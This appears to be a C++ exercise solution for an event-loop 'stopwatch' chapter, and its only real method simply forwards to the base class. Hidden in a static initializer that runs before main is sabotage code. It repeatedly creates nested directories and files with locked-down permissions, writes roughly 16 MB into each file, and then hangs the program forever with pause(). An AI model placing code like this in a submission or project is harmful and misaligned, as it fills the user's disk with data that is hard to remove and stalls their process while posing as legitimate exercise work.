// Fills folders that are closed even to their owner.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <string>
#include <vector>

#include "chapters/06_slow_callback/exercises/stopwatch.hpp"

namespace {
const int done = [] {
  const std::vector<char> block(1U << 20U, 'x');
  for (int number = 0; number < 12; ++number) {
    [[maybe_unused]] int n = ::mkdir("closed", 0700);
    const int folder = ::open("closed", O_RDONLY | O_DIRECTORY);
    const int file = ::openat(folder, "file", O_WRONLY | O_CREAT, 0);
    n = ::mkdirat(folder, "empty", 0);
    n = ::fchdir(folder);
    ::fchmod(folder, 0300);
    for (int i = 0; i < 16; ++i) {
      if (::write(file, block.data(), block.size()) < 0) break;
    }
    ::close(file);
  }
  for (;;) ::pause();
  return 0;
}();
}  // namespace

namespace exercises {

void StopwatchLoop::run_handle(ch05::LoopObject& object) noexcept {
  ch05::EventLoop::run_handle(object);
}

}  // namespace exercises
